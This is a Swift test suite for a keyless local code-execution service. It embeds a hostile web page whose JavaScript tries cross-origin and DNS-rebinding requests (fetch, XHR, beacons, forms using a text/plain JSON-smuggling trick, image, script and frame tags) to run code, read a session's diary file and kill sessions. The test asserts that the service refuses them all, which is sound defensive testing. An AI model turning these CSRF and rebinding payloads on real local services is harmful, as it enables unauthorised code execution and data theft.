import Foundation
import Glibc
import Synchronization
import TestSupport
import Testing

/// What web pages can do to a service without keys, whose operator reads them in a browser on the same machine: Chromium
/// tries everything that a page may send, across origins and by DNS rebinding.
@Suite(.timeLimit(.minutes(10)), .serialized)
struct BrowserTests {
    @Test func `no web page runs code or reads a session`() async throws {
        try await Stack.with { stack in
            try await stack.client.withSession { session in
                _ = try await session("write_file", ["filePath": "diary", "fileContent": "dear diary"])
                let before = try await stack.sandboxes()
                // Its line comes a moment after its answer.
                try await stack.responder.wait(for: "the line of the diary") {
                    stack.responder.log.contains(#""action":"write_file""#)
                }
                let logged = stack.responder.log.utf8.count
                let evil = HostilePage(target: try #require(URL(string: stack.client.base)?.port), session: session.id)

                // To the service's own address, from another origin of this machine.
                for host in ["127.0.0.1", "localhost"] {
                    let outcomes = try await evil.visit(
                        "http://evil.example:\(evil.port)/page?to=http://\(host):\(evil.target)", in: stack.folder)
                    // The browser lets none of it be read, and sends JSON only where it is told that it may.
                    for (name, outcome) in outcomes where name.hasPrefix("fetch") || name.hasPrefix("xhr") {
                        let isUnread = outcome.hasPrefix("opaque ") || outcome.hasPrefix("error ")
                        #expect(isUnread, "\(name): \(outcome)")
                    }
                }
                // To a name of the page's own, which leads here since it was loaded: to the browser that is one origin.
                let rebound = try await evil.visit("http://evil.example:\(evil.port)/page?to=", in: stack.folder)
                for (name, outcome) in rebound where name.hasPrefix("fetch") || name.hasPrefix("xhr") {
                    let isRefused = ["basic 40", "basic 41", "error "].contains { outcome.hasPrefix($0) }
                    #expect(isRefused, "\(name): \(outcome)")
                }
                #expect(rebound.values.contains { $0.hasPrefix("basic 403") }, "nothing of it came here")

                #expect(try await stack.sandboxes() == before)
                #expect(try await session("read_file", ["filePath": "diary"]).json["content"] == "dear diary")
                // Of the last request, whose line comes a moment after its answer.
                let diary = #""action":"read_file""#
                try await stack.responder.wait(for: "the last line") {
                    stack.responder.log.utf8.dropFirst(logged).firstRange(of: diary.utf8) != nil
                }
                let lines = stack.responder.log.utf8.dropFirst(logged).split(separator: UInt8(ascii: "\n"))
                    .map { String(decoding: $0, as: UTF8.self) }
                // All that was sent has been refused, and it was not little.
                let posts = lines.filter { $0.contains(#""method":"POST""#) }
                let answered = posts.filter { $0.contains(#""status":200"#) }
                #expect(answered.count == 1 && posts.count > 20, "\(posts.count) came: \(answered)")

                // The same page as one of the service's own, as a proof that it could do harm.
                let own = try await evil.visit("http://127.0.0.1:\(evil.port)/page?to=", in: stack.folder)
                #expect(own["fetch cors json /execute"]?.hasPrefix("basic 200") == true, "\(own)")
                #expect(own.values.contains { $0.contains("dear diary") }, "\(own)")
            }
        }
    }
}

/// A web server with a page that tries what it can, and that hands on to the service whatever is asked for under a name that
/// leads to both: so it looks to the service when DNS has been rebound.
private final class HostilePage: Sendable {
    let target: Int
    private let loopback: Loopback
    private let reports: Reports

    private final class Reports: Sendable {
        let last = Mutex<[String: String]?>(nil)
    }

    var port: UInt16 { loopback.port }

    init(target: Int, session: String) {
        self.target = target
        let reports = Reports()
        self.reports = reports
        let page = Self.page.replacing("SESSION", with: session)
        loopback = Loopback { connection in
            guard let request = connection.readRequest() else { return }
            let path = request.line.split(separator: " ")[1]
            if path.hasPrefix("/page") {
                connection.respond(page, headers: ["Content-Type: text/html", "Connection: close"])
            } else if path == "/report" {
                reports.last.withLock {
                    $0 = try? JSONDecoder().decode([String: String].self, from: Data(request.body))
                }
                connection.respond(headers: ["Connection: close"])
            } else if ["/execute", "/e2bcode", "/health", "/openapi.json"].contains(path) {
                Self.handOn(request, to: target, connection)
            } else {
                connection.respond(status: "404 Not Found", headers: ["Connection: close"])
            }
        }
    }

    /// Has the browser open the page, and returns what the page says of each of its attempts.
    func visit(_ url: String, in folder: URL) async throws -> [String: String] {
        reports.last.withLock { $0 = nil }
        let profile = folder.appending(path: "chromium-\(UUID().uuidString.prefix(8))")
        let browser = try await ChildProcess(
            Binaries.system("chromium"),
            [
                // Its sandbox is not to be had as root; what it loads is ours.
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--user-data-dir=\(profile.path)",
                // Every page's name is this machine's, and nothing else is asked for.
                "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
                url,
            ], in: folder)
        let reports = reports
        let result: Result<Void, any Error>
        do {
            result = .success(
                try await browser.wait(for: "the page's report", within: .seconds(180)) {
                    reports.last.withLock { $0 != nil }
                })
        } catch {
            result = .failure(error)
        }
        await browser.stop(grace: .seconds(10))
        try result.get()
        return reports.last.withLock { $0 ?? [:] }
    }

    /// As it came, headers and all, but on a connection that ends with the answer.
    private static func handOn(_ request: Loopback.Request, to port: Int, _ client: Loopback.Connection) {
        let socket = Glibc.socket(AF_INET, CInt(SOCK_STREAM.rawValue | SOCK_CLOEXEC.rawValue), 0)
        defer { close(socket) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = UInt16(port).bigEndian
        address.sin_addr.s_addr = in_addr_t(INADDR_LOOPBACK).bigEndian
        let status = withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(socket, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard status == 0 else { return }
        let headers = request.headers.filter { !$0.lowercased().hasPrefix("connection:") } + ["Connection: close"]
        let server = Loopback.Connection(socket)
        server.write(([request.line] + headers).joined(separator: "\r\n") + "\r\n\r\n")
        server.write(request.body)
        while let bytes = server.read() { client.write(bytes) }
    }

    private static let page = #"""
        <!DOCTYPE html><meta charset="utf-8"><title>Kittens</title><body><script>
        const to = new URLSearchParams(location.search).get("to"), outcomes = {};
        const bodies = [
            ["/execute", {code: "print(6 * 7)"}],
            ["/e2bcode", {action: "create", sessionId: "evil"}],
            ["/e2bcode", {action: "read_file", sessionId: "SESSION", filePath: "diary"}],
            ["/e2bcode", {action: "list_sandboxes"}],
            ["/e2bcode", {action: "kill", sessionId: "SESSION"}],
        ];
        const later = (ms) => new Promise((done) => setTimeout(done, ms));
        async function attempt(name, deed) {
            const limit = later(30000).then(() => "error of time");
            try { outcomes[name] = String(await Promise.race([deed(), limit])); }
            catch (reason) { outcomes[name] = "error " + reason; }
        }
        async function seen(response) { return `${response.type} ${response.status} ${await response.text()}`; }
        function xhr(path, type, body) {
            return new Promise((done, fail) => {
                const request = new XMLHttpRequest();
                request.open("POST", to + path);
                if (type) request.setRequestHeader("Content-Type", type);
                request.onload = () => done(`basic ${request.status} ${request.responseText}`);
                request.onerror = () => fail("nothing");
                request.send(body);
            });
        }
        function form(path, enctype, fields) {
            return new Promise((done) => {
                const frame = document.createElement("iframe"), form = document.createElement("form");
                frame.name = "frame" + Math.random();
                document.body.append(frame, form);
                Object.assign(form, {action: to + path, method: "post", enctype, target: frame.name});
                for (const [name, value] of fields) {
                    const field = document.createElement("input");
                    Object.assign(field, {type: "hidden", name, value});
                    form.append(field);
                }
                frame.onload = () => { if (frame.dataset.sent) done("loaded"); };
                frame.dataset.sent = "yes";
                form.submit();
            });
        }
        function element(tag, attribute, path) {
            return new Promise((done) => {
                const element = document.createElement(tag);
                element.onload = () => done("loaded");
                element.onerror = () => done("refused");
                element[attribute] = to + path;
                document.body.append(element);
            });
        }
        (async () => {
            // Not the kill while there is something to read: it comes last.
            for (const [path, object] of bodies) {
                const body = JSON.stringify(object), name = `${path}${object.action ? " " + object.action : ""}`;
                const types = {text: "text/plain", form: "application/x-www-form-urlencoded", json: "application/json"};
                if (object.action === "kill" && !to && location.hostname === "127.0.0.1") continue;
                for (const [kind, type] of Object.entries(types)) {
                    for (const mode of ["no-cors", "cors"]) {
                        await attempt(`fetch ${mode} ${kind} ${name}`, async () => seen(await fetch(to + path, {
                            method: "POST", mode, body, headers: {"Content-Type": type}, credentials: "include"})));
                    }
                    await attempt(`xhr ${kind} ${name}`, () => xhr(path, type, body));
                    await attempt(`beacon ${kind} ${name}`, async () =>
                        navigator.sendBeacon(to + path, new Blob([body], {type})));
                }
                await attempt(`fetch untyped ${name}`, async () => seen(await fetch(to + path, {
                    method: "POST", mode: "no-cors", body: new Blob([body])})));
                // A field's name and value around the sign of equality make one JSON object.
                const inside = `${body.slice(0, -1)},"x":"`;
                await attempt(`form text ${name}`, () => form(path, "text/plain", [[inside, `"}`]]));
                await attempt(`form data ${name}`, () => form(path, "multipart/form-data", [["code", "print(1)"]]));
                await attempt(`form url ${name}`, () =>
                    form(path, "application/x-www-form-urlencoded", Object.entries(object)));
            }
            for (const path of ["/execute", "/e2bcode", "/openapi.json"]) {
                await attempt(`image ${path}`, () => element("img", "src", path + "?code=print(1)"));
                await attempt(`script ${path}`, () => element("script", "src", path));
                await attempt(`frame ${path}`, () => element("iframe", "src", path));
            }
            await later(500);
            await fetch("/report", {method: "POST", body: JSON.stringify(outcomes)});
        })();
        </script>
        """#
}
